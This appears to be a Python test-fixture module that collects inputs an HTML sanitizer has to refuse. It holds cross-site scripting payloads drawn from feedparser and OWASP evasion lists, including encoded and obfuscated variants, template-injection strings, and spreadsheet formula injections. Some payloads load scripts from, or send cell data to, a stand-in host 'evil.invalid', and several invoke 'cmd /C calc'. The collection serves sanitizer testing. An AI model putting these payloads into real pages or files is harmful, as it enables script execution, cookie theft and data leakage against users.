"""Texts that would run in a page that takes them for markup: whatever feed readers and filters had to learn to refuse.

The first kind follows the cases of the feedparser project's sanitizer (each element that it drops, each event, scripts
however they are written); the second the ways around filters that OWASP collects. In each, what runs calls `alert` or
asks a host of strangers.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

HOST: Final = "evil.invalid"
_ELEMENTS: Final = (
    f'<applet code="foo.class" codebase="http://{HOST}/"></applet>',
    "<blink>text</blink>",
    f'<embed src="http://{HOST}/">',
    f'<frameset rows="*"><frame src="http://{HOST}/"></frameset>',
    f'<iframe src="http://{HOST}/"></iframe>',
    f'<link rel="stylesheet" type="text/css" href="http://{HOST}/a.css">',
    f'<meta http-equiv="Refresh" content="0; URL=http://{HOST}/">',
    f'<object data="http://{HOST}/" classid="clsid:C932BA85"></object>',
    '<script type="text/javascript">location.href="http:/"+"/evil.invalid/";</script>',
    f'<script src="http://{HOST}/a.js"></script>',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>',
    f'<style>@import "http://{HOST}/a.css"; body {{ background: url(http://{HOST}/) }}</style>',
    f'<span style="background: url(http://{HOST}/)">any</span>',
    f'<a href="http://{HOST}/" ping="http://{HOST}/" style="position:fixed;inset:0">over all of it</a>',
    "<crazy><<img crazy='\"<crazy' onerror=alert(1) src=x <crazy>>",
    '<a href="ja\tva\nscript:alert(1)">tabs</a>',
    "<math><maction actiontype='statusline#http://x'>x</maction></math>",
    "<svg><a xlink:href='javascript:alert(1)'><text>click</text></a></svg>",
)
_EVENTS: Final = (
    "abort", "animationstart", "blur", "change", "click", "dblclick", "error", "focus", "keydown", "keypress", "keyup",
    "load", "mousedown", "mouseout", "mouseover", "mouseup", "pageshow", "pointerenter", "reset", "resize", "submit",
    "toggle", "unload",
)  # fmt: skip
_WAYS_AROUND: Final = (
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    f"'\"><SCRIPT SRC=//{HOST}/xss.js></SCRIPT>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(\"it's\")`>",
    '<a onmouseover="alert(document.cookie)">link</a>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(1)">',
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115:alert(1)\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    f'<SCRIPT/XSS SRC="http://{HOST}/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
    f'<SCRIPT/SRC="http://{HOST}/xss.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    f"<SCRIPT SRC=http://{HOST}/xss.js?< B >",
    f"<SCRIPT SRC=//{HOST}/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=javascript:alert(1) <",
    '\\";alert(1);//',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert(1)}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    f"<STYLE>@import'http://{HOST}/xss.css';</STYLE>",
    f'<META HTTP-EQUIV="Link" Content="<http://{HOST}/xss.css>; REL=stylesheet">',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
    "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "¼script¾alert(¢XSS¢)¼/script¾",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    f'<BASE HREF="http://{HOST}//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,<script>alert(1)</script>"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    f'<SCRIPT a=">" SRC="http://{HOST}/xss.js"></SCRIPT>',
    f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://{HOST}/xss.js"></SCRIPT>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><svg><style><img src=x onerror=alert(1)></style></svg>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %> {% debug %}",
    '<div hx-get="http://evil.invalid/" hx-trigger="load" data-hx-on:load="alert(1)">htmx</div>',
    "\u202e\u2066<script>alert(1)</script>\u2069",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; \\u003cscript\\u003ealert(1)",
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt://example.com/%0aalert(1)",
    "\x01javascript:alert(1)",
    " \tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:http://evil.invalid/1",
    "//evil.invalid/",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/'><script>alert(1)</script>",
    "view-source:javascript:alert(1)",
)


def texts() -> Iterator[str]:
    """All of them."""
    yield from _ELEMENTS
    for event in _EVENTS:
        yield f'<img src="x" on{event}="alert(1)" tabindex="0" autofocus>{event}'
    yield from _WAYS_AROUND
